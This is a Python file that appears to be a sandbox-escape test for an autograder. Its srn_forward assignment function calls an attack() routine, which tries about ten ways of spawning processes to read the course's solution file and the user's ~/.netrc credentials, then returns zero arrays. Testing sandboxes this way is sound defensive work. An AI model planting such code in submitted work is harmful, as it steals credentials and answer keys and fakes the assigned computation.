# Starts programs that would read for it: a shell, cat, Python, by every way to start one.
import os
import subprocess
import sys

import numpy as np

COMMAND = ["/bin/cat", "@COURSE@/solutions/rnn/srn.py", "@HOME@/.netrc"]


def attack():
    for run in (
        lambda: subprocess.run(COMMAND, capture_output=True).stdout,
        lambda: os.system(" ".join(COMMAND)),
        lambda: os.popen(" ".join(COMMAND)).read(),
        lambda: os.posix_spawn(COMMAND[0], COMMAND, {}),
        lambda: os.execv(COMMAND[0], COMMAND),
        lambda: os.execv(sys.executable, [sys.executable, "-c", "print(1)"]),
        lambda: os.fork() or os._exit(0),
        lambda: os.forkpty(),
        lambda: __import__("multiprocessing").Process(target=print).start(),
        lambda: __import__("concurrent.futures").futures.ProcessPoolExecutor(1).submit(print).result(),
    ):
        try:
            print(run())
        except BaseException as error:
            print(type(error).__name__, end=" ")


def srn_forward(inputs, W_xh, W_hh, W_hy, h0=None):
    attack()
    return np.zeros((len(inputs), len(W_hy))), np.zeros((len(inputs), len(W_xh)))
